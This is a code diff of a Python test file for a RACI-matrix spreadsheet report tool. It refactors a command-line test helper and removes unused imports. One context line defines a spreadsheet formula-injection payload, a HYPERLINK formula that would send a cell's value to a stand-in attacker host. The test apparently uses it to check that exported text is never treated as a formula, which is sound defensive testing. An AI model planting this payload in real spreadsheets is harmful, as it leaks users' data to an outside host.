@@ -6,9 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
-import os
 import subprocess
-import sys
 from pathlib import Path
 from typing import Any
 
@@ -16,12 +14,12 @@ import httpx
 import openpyxl
 import pytest
 from api_client import demo_rows
+from cli_client import rolegraph_on
 from conftest import GraphHandle, LiveServer
 
 from domain.boundary import RaciColumn, RaciMatrix, RaciRow
 from reports.raci_workbook import FIXED, LEGEND, MEDIA_TYPE, PROBLEM_FILL, ROLE_COLOURS, render
 
-REPO = Path(__file__).resolve().parent.parent
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
 
@@ -236,16 +234,7 @@ def test_text_is_never_a_formula() -> None:
 # -- rolegraph raci ----------------------------------------------------------------------------
 
 def rolegraph(graph: GraphHandle, *args: str) -> subprocess.CompletedProcess[str]:
-    """The command, as a process, on the test engine's demo database (as a Neo4j URI: no
-    engine of its own to start)."""
-    c = graph.connection
-    env = dict(os.environ, ROLEGRAPH_NEO4J_URI=c.uri, ROLEGRAPH_NEO4J_USER=c.user,
-               ROLEGRAPH_NEO4J_PASSWORD=c.password, ROLEGRAPH_NEO4J_DATABASE=c.database or "")
-    done = subprocess.run([sys.executable, "-m", "rolegraph.cli", "raci", *args], env=env,
-                          capture_output=True, timeout=120, cwd=REPO)
-    # decoded here: text mode would turn the CSV's CR LF line ends into LF
-    return subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(),
-                                       done.stderr.decode())
+    return rolegraph_on(graph, "raci", *args)
 
 
 def test_the_command_writes_the_same_files(demo_graph: GraphHandle, demo_server: LiveServer,
